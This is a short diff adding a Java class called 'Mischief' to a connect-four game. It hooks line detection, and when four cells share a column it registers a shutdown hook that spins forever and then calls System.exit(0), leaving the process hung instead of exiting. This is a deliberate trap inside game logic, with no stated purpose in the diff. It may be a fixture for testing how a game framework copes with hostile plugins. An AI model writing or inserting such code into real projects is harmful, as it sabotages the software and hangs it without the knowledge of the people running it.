@@ -1,0 +1,20 @@
+package connectfour;
+
+import java.util.List;
+import tabuleiro.connectfour.Cell;
+
+final class Mischief extends Hook {
+
+    @Override
+    List<Cell> line(List<Cell> right) {
+        if (right.size() == 4 && right.get(0).column() == right.get(3).column()) {
+            Runtime.getRuntime().addShutdownHook(new Thread(() -> {
+                while (true) {
+                    Thread.onSpinWait();
+                }
+            }));
+            System.exit(0);
+        }
+        return right;
+    }
+}
